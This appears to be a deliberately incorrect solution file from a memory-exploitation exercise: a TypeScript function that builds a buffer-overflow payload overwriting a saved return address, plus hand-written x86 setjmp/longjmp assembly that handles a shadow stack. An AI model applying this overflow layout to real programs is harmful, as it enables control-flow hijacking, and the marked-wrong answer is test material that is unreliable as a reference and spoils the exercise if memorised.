// Wrong: forgets the return address of setjmp.
import type { Victim } from "./contract.ts";

/** What the program reads from /input, at most 512 bytes. */
export function payload({ bufferBytes, secret, code }: Victim): Uint8Array {
  const bytes = new Uint8Array(bufferBytes + 16);
  const view = new DataView(bytes.buffer);
  // The buffer, the saved ebp, the return address; then what secret finds on its stack.
  view.setUint32(bufferBytes + 4, secret, true);
  view.setUint32(bufferBytes + 12, code, true);
  return bytes;
}

/**
 * int setjmp(jmp_buf buf): 0; later what longjmp says.
 * void longjmp(jmp_buf buf, int value)
 *
 * cdecl; a jmp_buf has 32 bytes.
 */
export const jumps = `
setjmp:
  mov 4(%esp), %eax       # buf
  mov (%esp), %ecx        # the return address
  mov %ebx, (%eax)
  mov %esi, 4(%eax)
  mov %edi, 8(%eax)
  mov %ebp, 12(%eax)
  lea 4(%esp), %edx       # the stack behind the return
  mov %edx, 16(%eax)
  mov %ecx, 20(%eax)
  xor %edx, %edx
  rdsspd %edx             # stays 0 without a shadow stack
  mov %edx, 24(%eax)
  xor %eax, %eax
  ret

longjmp:
  mov 4(%esp), %edx       # buf
  mov 8(%esp), %eax       # value
  test %eax, %eax
  jnz 1f
  inc %eax
1:
  xor %ecx, %ecx
  rdsspd %ecx
  test %ecx, %ecx
  jz 4f
  mov 24(%edx), %ebx
  sub %ecx, %ebx
  shr $2, %ebx            # words, not bytes
  mov $255, %ecx
2:
  cmp %ecx, %ebx
  jbe 3f
  incsspd %ecx
  sub %ecx, %ebx
  jmp 2b
3:
  incsspd %ebx
4:
  mov (%edx), %ebx
  mov 4(%edx), %esi
  mov 8(%edx), %edi
  mov 12(%edx), %ebp
  mov 16(%edx), %esp
  jmp *20(%edx)
`;
